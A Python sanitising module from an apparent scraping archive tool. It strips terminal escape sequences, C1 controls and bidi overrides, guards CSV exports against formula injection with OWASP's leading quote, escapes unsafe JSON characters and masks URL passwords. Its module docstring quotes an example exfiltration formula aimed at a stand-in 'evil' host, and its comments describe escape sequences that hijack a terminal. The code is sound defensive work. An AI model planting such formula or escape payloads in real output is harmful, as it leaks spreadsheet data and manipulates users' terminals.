"""What scraped text must not do on its way out: drive a terminal, or run in a spreadsheet;
and what it may not bring into the archive (``for_archive``).

Titles, authors and text come from sites we do not control, so they may carry escape
sequences (``ESC]0;…BEL`` retitles the window, ``ESC[2J`` clears it, ``ESC]8;;`` makes
links), C1 controls (U+009B is a one-character CSI to many terminals) and bidi overrides
that make text read differently from what it is (U+202E, "Trojan Source"). A terminal
gets none of them: table, ``show`` text, and CSV when stdout is a terminal. Tab and
newline stay.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, through
some importers, tab, CR or NUL) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` leaks
the sheet. CSV follows OWASP's rule (CSV injection): such a text cell gets a leading
``'``, which spreadsheets hide and do not run. Numbers are left alone (a negative score is
not a formula). ``--raw`` turns the rule off for pipelines that need the values as
archived. JSON is data and stays as archived, but ``json.dumps(ensure_ascii=False)``
writes C1 and bidi characters literally, so ``json_escape`` spells them ``\\u009b``: the
same string to any JSON reader, inert on a terminal.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping

# A terminal's escape sequence, whole (ECMA-48), introduced by ESC or by its C1 twin: a
# control string (OSC ``ESC ]``, DCS ``ESC P``, SOS, PM, APC) up to its BEL or ST (or the
# line's end: a terminal would swallow the rest), a CSI (``ESC [``: parameters,
# intermediates, final byte), or any other escape with what it takes (``ESC ( B``,
# ``ESC c``). With ESC alone removed, "\x1b[31mчервено\x1b[0m" printed "[31mчервено[0m",
# and "\x1b]0;hacked\x07" "]0;hacked".
_STRING = "[^\x07\x1b\x9c\n]*(?:\x07|\x1b\\\\|\x9c)?"
_CSI = "[\x30-\x3f]*[\x20-\x2f]*[\x40-\x7e]?"
_ESCAPE = "\x1b[\x20-\x2f]*[\x30-\x7e]?"
# The seven-bit forms (ESC and what follows it), which ``for_archive`` removes from what
# is stored; the C1 introducers' forms beside them, which only output removes.
_SEVEN_BIT = f"\x1b[\\]PX^_]{_STRING}|\x1b\\[{_CSI}|{_ESCAPE}"
ESCAPE_SEQUENCE = re.compile(f"{_SEVEN_BIT}|[\x90\x98\x9d\x9e\x9f]{_STRING}|\x9b{_CSI}")
# Those sequences, then what is left of C0 controls but tab and newline, DEL, C1
# (U+0080-U+009F), bidi embeddings/overrides (U+202A-U+202E) and isolates (U+2066-U+2069).
_TERMINAL_UNSAFE = re.compile(
    f"{ESCAPE_SEQUENCE.pattern}|[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"
)
# OWASP's list, and NUL, which OWASP ASVS 1.2.10 adds: an importer that skips it reads on
# into the "=" behind it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")
# What json.dumps(ensure_ascii=False) leaves literal but a terminal may act on, and the
# line and paragraph separators (U+2028, U+2029), which end a line for Python's
# str.splitlines and other Unicode-aware line readers: a JSON Lines record holding one
# raw was two lines to them, neither valid JSON.
_JSON_UNSAFE = re.compile("[\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


# What ``for_archive`` takes out of a field on its way into the archive: a seven-bit
# escape sequence whole, a line break of another system (CR LF, CR, VT, FF), every other C0
# control but tab and newline, DEL and C1.
_ARCHIVE_UNSAFE = re.compile(f"{_SEVEN_BIT}|\r\n?|[\x00-\x08\x0b-\x1f\x7f-\x9f]")
# Any of them: looked for first, as one character class (the alternation above, tried at
# every character, took four times as long on a text holding none, a fifth of an
# import's preparing of an article)
_ARCHIVE_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_LINE_BREAKS = ("\r\n", "\r", "\x0b", "\x0c")
# C1 (U+0080-U+009F) read as the Windows-1252 characters of those bytes, as WHATWG reads
# a page labelled Latin-1 (``fetch.charset``); the five bytes it leaves unassigned, none.
_WINDOWS_1252 = {
    chr(byte): bytes([byte]).decode("cp1252", errors="ignore") for byte in range(0x80, 0xA0)
}


def _archived(found: re.Match[str]) -> str:
    control = found.group()
    if control in _LINE_BREAKS:
        return "\n"
    if "\x1c" <= control <= "\x1f":  # (the information separators: white space, a word's end)
        return " "
    return _WINDOWS_1252.get(control, "")


def for_archive(text: str) -> str:
    """``text`` as the archive stores it: with no control a terminal or the index would
    read as something else, tab and newline kept.

    An escape sequence stored as it came ("\\x1b[31mчервено\\x1b[0m", a page's or an
    imported record's) was indexed as the token "31mчервено", so no search of "червено"
    found it, and every reader of the archive (Datasette, a script, an export) met the
    sequence again: it goes whole (``ESCAPE_SEQUENCE``'s seven-bit forms). A line break
    of another system is a newline; the information separators a space. A C1 character
    in a text is the Windows-1252 byte a Latin-1 reading made of it (a "–" read as
    U+0096), far likelier than a terminal's eight-bit introducer: it is read as that
    character, where taken as an introducer it would take the rest of the line with it.
    Any other control (NUL, BEL, DEL, a stray ESC) is dropped."""
    # (most texts hold none: told in C by ``isprintable``, its white space aside, else by
    # ``_ARCHIVE_CONTROL``, where a no-break space or a soft hyphen makes it false)
    if text.replace("\n", " ").replace("\t", " ").isprintable():
        return text
    return _ARCHIVE_UNSAFE.sub(_archived, text) if _ARCHIVE_CONTROL.search(text) else text


def for_terminal(value: object) -> str:
    """``value`` as text a terminal only prints: its control and bidi characters removed."""
    return _TERMINAL_UNSAFE.sub("", "" if value is None else str(value))


def for_terminal_line(value: object) -> str:
    """``for_terminal`` for a field that is one line by nature (a headline, a byline, a
    tag, a URL): its line breaks and tabs are spaces there. An imported or hand-edited
    title holding a newline broke the search list's block and ``show``'s header into lines
    that read as other fields."""
    return " ".join(for_terminal(value).split())


# What may not appear raw in a one-line message: every C0 control (newline and tab too),
# DEL, C1, the Unicode line and paragraph separators, bidi embeddings and isolates; the
# characters a terminal prints as nothing (a soft hyphen, the zero-width space, non-joiner
# and joiner, the direction marks, the word joiner and its invisible operators, a BOM:
# a query of a pasted U+200B alone was refused as "'' holds no letters or digits", the
# quotes seemingly empty); and the lone surrogates that stand for bytes no UTF-8 text has
# (a file name typed in a Latin-1 locale: Python reads argv so, "surrogateescape").
_LINE_UNSAFE = re.compile(
    "[\x00-\x1f\x7f-\x9f\xad\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2064"
    "\u2066-\u2069\ufeff\udc80-\udcff]"
)


def _escaped(character: str) -> str:
    """One unsafe character as its escape: a byte's surrogate as that byte (``\\xe1``),
    as ``errors.not_utf8`` quotes an argument (stderr wrote it ``\\udce1``, another
    spelling of the same name in the lines beside it)."""
    if "\udc80" <= character <= "\udcff":
        return f"\\x{ord(character) - 0xDC00:02x}"
    return character.encode("unicode_escape").decode("ascii")


def as_one_line(text: str) -> str:
    """``text`` as one inert line: an error or warning quotes what the user or a site
    typed (a file name, a URL, an id pasted with its newline), so its controls are
    written as escapes (``\\n``, ``\\x1b``), which show what was there, rather than
    starting a second line or driving the terminal; a URL's password is masked
    (``redacted``)."""
    return redacted(_LINE_UNSAFE.sub(lambda m: _escaped(m.group()), text))


# A URL's userinfo with a password, ``scheme://user:password@`` (RFC 3986 3.2.1), in any
# text: the password runs to the authority's last ``@`` (``urlsplit`` reads
# ``http://u:p@ss@host`` so, and a typed one need not be escaped), never past a ``/``,
# ``?``, ``#`` or a space, so an address followed by an e-mail address further on is no
# userinfo.
_PASSWORD = re.compile(
    r"(?i)\b([a-z][a-z0-9+.-]*://[^\s/?#@:]*):[^\s/?#]*@(?=[^\s/?#@]*(?:[\s/?#]|$))"
)
MASK = "***"


def redacted(text: str) -> str:
    """``text`` with every URL's password written ``***`` (``http://user:***@host/``):
    the one rule for what is printed, logged or shown. A ``--base-url`` of a mirror behind
    a login (``http://user:secret@127.0.0.1/``) was quoted whole in "… cannot be
    reached", in every line of ``--log-file`` and in add-site's and check-site's reports,
    which land in cron's mail, a shared log and a pasted bug report. The user name stays:
    it says which login was used, and is no secret by itself."""
    if "@" not in text:  # (most text: no userinfo at all, read without the pattern)
        return text
    return _PASSWORD.sub(rf"\1:{MASK}@", text)


def one_line(text: str, width: int, *, ellipsis: str = "…") -> str:
    """``text`` with every run of whitespace (newlines too) made one space, and cut to
    ``width`` characters, ``ellipsis`` included, when longer: foreign text (an exception
    quoting a server's bytes, a scraped value) must not break a one-line report."""
    flat = " ".join(text.split())
    return flat if len(flat) <= width else flat[: width - len(ellipsis)] + ellipsis


def for_spreadsheet(value: object) -> object:
    """A text cell a spreadsheet would run as a formula, with OWASP's leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(row: Mapping[str, object], *, terminal: bool, raw: bool = False) -> dict[str, object]:
    """One CSV row made safe for where it goes: ``terminal`` strips what a terminal would
    run (always, even with ``raw``), and unless ``raw`` the spreadsheet rule applies."""
    safe: dict[str, object] = {}
    for key, value in row.items():
        cell = for_terminal(value) if terminal and isinstance(value, str) else value
        safe[key] = cell if raw else for_spreadsheet(cell)
    return safe


def csv_rows(
    rows: Iterable[Mapping[str, object]], *, terminal: bool, raw: bool = False
) -> Iterator[dict[str, object]]:
    """``csv_row`` for each row, lazily (exports stream)."""
    return (csv_row(row, terminal=terminal, raw=raw) for row in rows)


def json_escape(dumped: str) -> str:
    """JSON text from ``json.dumps`` with C1, DEL, line/paragraph separator and bidi
    characters as ``\\uXXXX`` escapes.

    Lossless: outside strings JSON text is ASCII, and inside one an escape is the same
    character, so the parsed data is unchanged.
    """
    return _JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", dumped)
